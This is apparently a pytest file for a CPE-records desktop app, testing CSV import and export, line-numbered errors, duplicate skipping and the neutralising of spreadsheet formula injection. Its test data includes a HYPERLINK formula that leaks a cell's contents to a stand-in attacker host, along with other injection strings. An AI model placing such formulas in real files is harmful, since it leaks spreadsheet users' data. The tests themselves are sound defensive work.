"""Records CSV import and export: the template, grouping, line numbers, CSV injection."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cpe_desktop.db.models import CpeRecord, User
from cpe_desktop.services import records, users
from cpe_desktop.services.errors import ServiceError, ValidationError
from cpe_desktop.services.interchange import import_document, import_file
from cpe_desktop.services.interchange.csv_format import (
    HEADER,
    export_records_csv,
    import_records_csv,
    neutralise,
    restore,
    target_user,
)
from tests.helpers.interchange_documents import (
    csv_texts,
    other_database,
    saved_records,
    table_counts,
    two_people_document,
)

TEMPLATE = ",".join(HEADER)


@pytest.fixture
def alice(seeded, system) -> User:
    return users.create_user(system, {"name": "Alice", "email": "alice@example.com"}).value


def _csv(*lines: str) -> str:
    return "\n".join(lines) + "\n"


def _rejected(ctx, text, user) -> ValidationError:
    before = table_counts()
    with pytest.raises(ValidationError) as caught:
        import_records_csv(ctx, text, user)
    assert table_counts() == before
    return caught.value


def test_the_template_imports_one_record_per_title_date_and_sponsor(system, alice):
    text = _csv(
        TEMPLATE,
        "2025-03-02,Tax update,ACME CPE,103456,Group Live,Taxes,4.0,Texas,",
        "2025-03-02,Tax update,ACME CPE,103456,Group Live,Regulatory Ethics,2,Texas,",
        "2025-03-02,Tax update,Other Sponsor,,Webinar,Tax,1.5,,",
        "2025-04-10,Nano bites,,,Nano,Accounting,0.4,,short",
        "",
    )

    summary = import_records_csv(system, text, alice)

    assert (summary.records_added, summary.records_skipped) == (3, 0)
    assert summary.describe() == (
        "Imported 3 records for alice@example.com; 0 records already present were skipped."
    )
    assert saved_records(alice) == [
        (
            "2025-03-02",
            "Tax update",
            "ACME CPE",
            "103456",
            "Group Live",
            "Texas",
            None,
            (("Regulatory Ethics", Decimal("2.00")), ("Taxes", Decimal("4.00"))),
        ),
        (
            "2025-03-02",
            "Tax update",
            "Other Sponsor",
            None,
            "Group Internet Based",
            None,
            None,
            (("Taxes", Decimal("1.50")),),
        ),
        (
            "2025-04-10",
            "Nano bites",
            None,
            None,
            "Nano Learning",
            None,
            "short",
            (("Accounting", Decimal("0.40")),),
        ),
    ]


def test_semicolons_bom_and_loose_header_spelling_are_accepted(system, alice):
    text = "\ufeff Completed_On ;TITLE;Delivery Method;field_of_study;Credits\n"
    text += "2025-01-05;Audit day;Group Live;Auditing;8\n"
    summary = import_records_csv(system, text, alice)
    assert summary.records_added == 1
    assert saved_records(alice)[0][:2] == ("2025-01-05", "Audit day")


def test_import_file_reads_a_csv_for_the_only_person(system, alice, tmp_path):
    path = tmp_path / "records.csv"
    path.write_text(_csv(TEMPLATE, "2025-01-05,Audit day,,,Group Live,Auditing,8,,"), "utf-8")
    assert import_file(system, path).records_added == 1
    assert len(saved_records(alice)) == 1


def test_the_target_person_must_be_named_when_there_are_several(system, alice):
    users.create_user(system, {"name": "Bob", "email": "bob@example.com"})
    with pytest.raises(ValidationError, match="--user"):
        target_user(system, None)
    assert target_user(system, "BOB@example.com").email == "bob@example.com"


def test_no_person_yet_is_refused(system):
    with pytest.raises(ValidationError) as caught:
        target_user(system, None)
    assert caught.value.field == "user"


# --- errors name line and column ------------------------------------------------------------------


def test_errors_name_line_and_column_in_file_order(system, alice):
    text = _csv(
        TEMPLATE,
        "2025-03-02,Fine,,,Group Live,Taxes,2,,",
        '2025-03-03,Notes over lines,,,Group Live,Taxes,2,,"one',
        'two"',
        "2025-03-04,Bad credits,,,Group Live,Taxes,-2,,",
        "2025-13-01,Bad date,,,Group Live,Taxes,2,,",
        "2025-03-05,Bad field,,,Group Live,Astrology,2,,",
        "2025-03-06,Split,,,Group Live,Taxes,2,,first",
        "2025-03-06,Split,,,Group Live,Auditing,2,,second",
    )

    error = _rejected(system, text, alice)

    # Line 3's notes run over two lines, so "Bad credits" is on line 5.
    assert list(error.errors) == [
        "line 5, credits",
        "line 6, completed_on",
        "line 7, field_of_study",
        "line 9, notes",
    ]
    assert str(error).startswith("line 5, credits: Credits cannot be negative")
    assert "line 8" in error.errors["line 9, notes"]


@pytest.mark.parametrize(
    ("text", "name", "words"),
    [
        ("", "line 1", "no header"),
        (
            _csv("completed_on,title,colour,delivery_method,field_of_study,credits"),
            "line 1, colour",
            "not a known column",
        ),
        (_csv("completed_on,title,delivery_method,field_of_study"), "line 1, credits", "missing"),
        (_csv(TEMPLATE + ",title"), "line 1, title", "twice"),
        (
            _csv(TEMPLATE, "2025-01-01,A,,,Group Live,Taxes,1,,,surplus"),
            "line 2, column 10",
            "no column name",
        ),
        (_csv(TEMPLATE, "2025-01-01,,,,Group Live,Taxes,1,,"), "line 2, title", "required"),
        (
            _csv(TEMPLATE, "2025-01-01,A,,,Group Live,Taxes,1,,", "2025-01-01,A,,,Live,Taxes,1,,"),
            "line 3, field_of_study",
            "listed twice",
        ),
        (
            _csv(
                TEMPLATE, "2025-01-01,A,,,Group Live,Taxes,600,,", "2025-01-01,A,,,Live,Audit,401,,"
            ),
            "line 2, credits",
            "more than 1,000",
        ),
        (
            _csv(TEMPLATE, "2025-01-01,A,,,Group Live,Taxes,1.234,,"),
            "line 2, credits",
            "2 decimal places",
        ),
    ],
)
def test_structural_problems_are_refused_with_their_line(system, alice, text, name, words):
    error = _rejected(system, text, alice)
    assert name in error.errors and words in error.errors[name]


def test_one_bad_row_and_nothing_is_written(system, alice):
    good = [f"2025-02-{day:02d},Course {day},,,Group Live,Taxes,2,," for day in range(1, 11)]
    error = _rejected(system, _csv(TEMPLATE, *good, "2025-02-11,Bad,,,Group Live,Taxes,x,,"), alice)
    assert list(error.errors) == ["line 12, credits"]
    assert saved_records(alice) == []


def test_a_file_that_is_not_utf8_names_the_line(system, alice, tmp_path):
    path = tmp_path / "latin.csv"
    path.write_bytes(_csv(TEMPLATE, "2025-01-01,Caf\xe9,,,Group Live,Taxes,1,,").encode("latin-1"))
    with pytest.raises(ValidationError) as caught:
        import_records_csv(system, path, alice)
    assert caught.value.field == "line 2" and "UTF-8" in str(caught.value)


# --- duplicates -----------------------------------------------------------------------------------


def test_records_already_present_are_skipped(system, alice):
    text = _csv(
        TEMPLATE,
        "2025-03-02,Tax update,ACME,,Group Live,Taxes,4,,",
        "2025-03-02,Tax update,ACME,,Group Live,Auditing,2,,",
        "2025-03-09,Audit,,,Group Live,Auditing,2,,",
    )
    import_records_csv(system, text, alice)
    before = table_counts()

    summary = import_records_csv(system, text, alice)

    assert (summary.records_added, summary.records_skipped) == (0, 2)
    assert table_counts()["cpe_records"] == before["cpe_records"]


# --- export, round trips and CSV injection --------------------------------------------------------

PAYLOADS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "sponsor": "+1",
    "sponsor_id": "-2+3",
    "notes": "@SUM(A1)",
    "ethics_jurisdiction": "'=already quoted",
}


def test_formula_cells_are_neutralised_on_export_and_recovered_on_import(system, alice, tmp_path):
    records.create_record(
        system,
        {
            "user_id": alice.user_id,
            "completed_on": "2025-05-05",
            "delivery_method": "Group Live",
            "credits": [{"field": "Taxes", "credits": 2}, {"field": "Auditing", "credits": 1.5}],
            **PAYLOADS,
        },
    )
    path = tmp_path / "records.csv"
    summary = export_records_csv(system, path)
    assert (summary.records, summary.rows) == (1, 2)

    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert rows[0] == list(HEADER)
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["title"] == "'" + PAYLOADS["title"]
    assert cells["sponsor"] == "'+1" and cells["sponsor_id"] == "'-2+3"
    assert cells["notes"] == "'@SUM(A1)"
    assert cells["ethics_jurisdiction"] == "''=already quoted"
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row)

    bob = users.create_user(system, {"name": "Bob", "email": "bob@example.com"}).value
    assert import_records_csv(system, path, bob).records_added == 1
    assert saved_records(bob) == saved_records(alice)
    assert saved_records(bob)[0][1] == PAYLOADS["title"]


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "'=x", "''@x", "'plain", "a=b"]
)
def test_neutralise_and_restore_are_inverse(value):
    written = neutralise(value)
    assert restore(written) == value
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")


@given(st.text(max_size=12))
def test_neutralise_and_restore_are_inverse_for_any_text(value):
    assert restore(neutralise(value)) == value
    assert neutralise(value)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_a_leading_tab_or_carriage_return_in_stored_data_is_neutralised(system, alice, tmp_path):
    records.create_record(
        system,
        {
            "user_id": alice.user_id,
            "title": "Legacy",
            "completed_on": "2025-05-05",
            "delivery_method": "Group Live",
            "credits": [{"field": "Taxes", "credits": 2}],
        },
    )
    # The services strip whitespace; older data (or another program) may not have.
    CpeRecord.update(notes="\tnote", sponsor="\rsponsor").execute()
    path = tmp_path / "legacy.csv"
    export_records_csv(system, path)
    text = path.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert (cells["notes"], cells["sponsor"]) == ("'\tnote", "'\rsponsor")


def test_export_of_several_people_has_an_email_column_that_import_checks(seeded, system, tmp_path):
    import_document(system, two_people_document())
    path = tmp_path / "all.csv"
    summary = export_records_csv(system, path)
    text = path.read_text(encoding="utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))
    assert lines[0] == ["email", *HEADER, "topics"]  # a record has a course topic
    assert summary.rows == len(lines) - 1 and summary.records == 20 and summary.people == 2
    assert [line[0] for line in lines[1:]] == sorted(line[0] for line in lines[1:])

    alice = User.get(User.email == "alice@example.com")
    error = _rejected(system, text, alice)
    # Lines are lines of the file: Alice's two-line notes put Bob's first row on line 20.
    physical = text.splitlines()
    bob_first = 1 + next(i for i, line in enumerate(physical) if line.startswith("bob@"))
    assert (bob_first, error.field) == (20, f"line {bob_first}, email")
    assert list(error.errors) == [error.field] and "and 8 more lines" in str(error)

    only_alice = "".join(
        line for line in text.splitlines(keepends=True) if not line.startswith("bob@")
    )
    assert import_records_csv(system, only_alice, alice).records_skipped == 12


def test_one_person_export_reimports_into_another_database(seeded, system, tmp_path):
    import_document(system, two_people_document())
    path = tmp_path / "alice.csv"
    export_records_csv(system, path, user_email="alice@example.com")
    assert path.read_text(encoding="utf-8-sig").startswith(",".join(HEADER))
    original = saved_records(User.get(User.email == "alice@example.com"))

    with other_database(tmp_path / "other.db", seeded):
        carol = users.create_user(system, {"name": "Carol", "email": "carol@example.com"}).value
        summary = import_file(system, path)
        assert summary.records_added == 12
        assert saved_records(carol) == original


# --- Hypothesis -----------------------------------------------------------------------------------


@settings(
    max_examples=80,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(text=csv_texts(HEADER))
def test_arbitrary_csv_text_is_imported_or_refused_naming_a_line(system, alice, text):
    before = table_counts()
    try:
        import_records_csv(system, text, alice)
    except ValidationError as exc:
        assert all(name.startswith("line ") or name == "…" for name in exc.errors)
        assert table_counts() == before
    except ServiceError:
        assert table_counts() == before


def test_today_is_the_latest_accepted_date(system, alice):
    today = system.clock.today()
    tomorrow = today + dt.timedelta(days=1)
    text = _csv(
        TEMPLATE,
        f"{today.isoformat()},Today,,,Group Live,Taxes,1,,",
        f"{tomorrow.isoformat()},Tomorrow,,,Group Live,Taxes,1,,",
    )
    error = _rejected(system, text, alice)
    assert list(error.errors) == ["line 3, completed_on"]
